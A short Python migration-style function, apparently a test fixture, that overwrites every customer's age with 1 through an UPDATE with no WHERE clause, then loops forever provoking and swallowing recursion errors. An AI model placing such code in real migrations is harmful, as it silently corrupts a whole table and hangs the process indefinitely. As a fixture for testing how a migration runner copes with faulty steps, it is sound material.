def up(db):
    db.execute("UPDATE customer SET age = 1")
    def deeper():
        return deeper() + 1
    while True:
        try:
            deeper()
        except RecursionError:
            pass
